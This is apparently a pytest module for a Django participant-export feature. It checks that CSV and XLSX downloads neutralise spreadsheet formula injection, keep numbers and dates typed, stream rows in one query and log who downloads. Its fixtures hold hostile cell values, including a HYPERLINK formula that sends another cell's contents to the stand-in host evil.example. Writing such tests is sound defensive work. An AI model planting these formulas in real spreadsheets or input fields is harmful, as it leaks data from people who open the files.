"""Participant spreadsheets: text a participant wrote never runs as a formula, rows stream."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from auditlog.models import LogEntry
from django.conf import settings
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from movilim.core.exports import table_response
from movilim.people.models import Organization
from movilim.programs.models import Cohort

from .. import factories

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"פרטים")'


pytestmark = pytest.mark.usefixtures("module_world")


@pytest.fixture
def hostile(world):
    """A member who typed formulas into every text field they control."""
    person = factories.PersonFactory(
        user__first_name="@SUM(1+1)",
        user__last_name="-2+3",
        user__email="hostile@example.org",
        job_title=PAYLOAD,
        phone="+972-50-0000000",
        organization=factories.OrganizationFactory(name_he="\tארגון", name_en="\rOrg"),
    )
    factories.EnrollmentFactory(cohort=world.cohort, person=person)
    return person


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def _hostile_row(rows: list[list[str]]) -> list[str]:
    [row] = [row for row in rows if "'@SUM(1+1)" in row]
    return row


def test_csv_export_quotes_every_cell_that_would_run_as_a_formula(
    world, client_for, hostile
) -> None:
    response = client_for("coordinator").get(
        reverse("programs:cohort_export", args=[world.cohort.pk, "csv"])
    )
    row = _hostile_row(_csv(response))
    assert row[:5] == ["'@SUM(1+1)", "'-2+3", "'\tארגון", row[3], "'" + PAYLOAD]
    assert "'+972-50-0000000" in row
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_export_writes_text_as_text_never_as_a_formula(world, client_for, hostile) -> None:
    response = client_for("coordinator").get(
        reverse("programs:cohort_export", args=[world.cohort.pk, "xlsx"])
    )
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    [row] = [row for row in sheet.iter_rows() if row[0].value == "'@SUM(1+1)"]
    assert row[4].value == "'" + PAYLOAD
    assert {cell.data_type for cell in row if cell.value is not None} == {"s"}
    formulas = [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_numbers_and_dates_stay_numbers_and_dates() -> None:
    row = [7, Decimal("2.5"), -3, datetime.date(2026, 2, 1), "-3", "#N/A", "a\x07b"]
    workbook = load_workbook(
        io.BytesIO(
            table_response(filename="t", fmt="xlsx", headers=list("abcdefg"), rows=[row]).content
        )
    )
    [cells] = list(workbook.active.iter_rows(min_row=2))
    assert [c.value for c in cells[:3]] == [7, 2.5, -3]
    assert cells[3].is_date and cells[3].value.date() == datetime.date(2026, 2, 1)
    assert [(c.value, c.data_type) for c in cells[4:]] == [
        ("'-3", "s"),
        ("#N/A", "s"),  # text, not Excel's "not available" error value
        ("ab", "s"),  # a control character a workbook cannot hold is dropped
    ]
    text = table_response(filename="t", fmt="csv", headers=list("abcdefg"), rows=[row])
    [_header, values] = _csv(text)
    assert values[:5] == ["7", "2.5", "-3", "2026-02-01", "'-3"]


def test_exports_stream_in_one_query_and_managers_downloads_are_logged(
    world, client_for, hostile, django_assert_num_queries
) -> None:
    for _ in range(30):
        factories.EnrollmentFactory(cohort=world.cohort)
    coordinator = client_for("coordinator")
    csv_url = reverse("programs:cohort_export", args=[world.cohort.pk, "csv"])
    response = coordinator.get(csv_url)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == (
        f'attachment; filename="cohort-{world.cohort.pk}-participants.csv"'
    )
    # The rows are read while the response is sent, in one query whatever the cohort's size.
    with django_assert_num_queries(1):
        rows = _csv(response)
    assert len(rows) == 1 + 33

    xlsx = coordinator.get(reverse("programs:cohort_export", args=[world.cohort.pk, "xlsx"]))
    assert isinstance(xlsx, FileResponse)
    assert xlsx["Content-Disposition"].endswith('participants.xlsx"')

    # A participant sees members only, without contact details, and is not logged.
    member_rows = _csv(client_for("participant").get(csv_url))
    assert len(member_rows[0]) == 7 and len(rows[0]) == 11
    seen = LogEntry.objects.filter(action=LogEntry.Action.ACCESS, object_pk=str(world.cohort.pk))
    assert [entry.actor for entry in seen] == [world.coordinator, world.coordinator]
    assert seen[0].content_type.model_class() is Cohort


def test_export_shows_names_in_the_language_the_page_was_in(world, client_for, hostile) -> None:
    Organization.objects.filter(pk=hostile.organization_id).update(name_en="Health")
    client = client_for("coordinator")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    rows = _csv(client.get(reverse("programs:cohort_export", args=[world.cohort.pk, "csv"])))
    assert rows[0][0] == "First name"
    assert _hostile_row(rows)[2] == "Health"
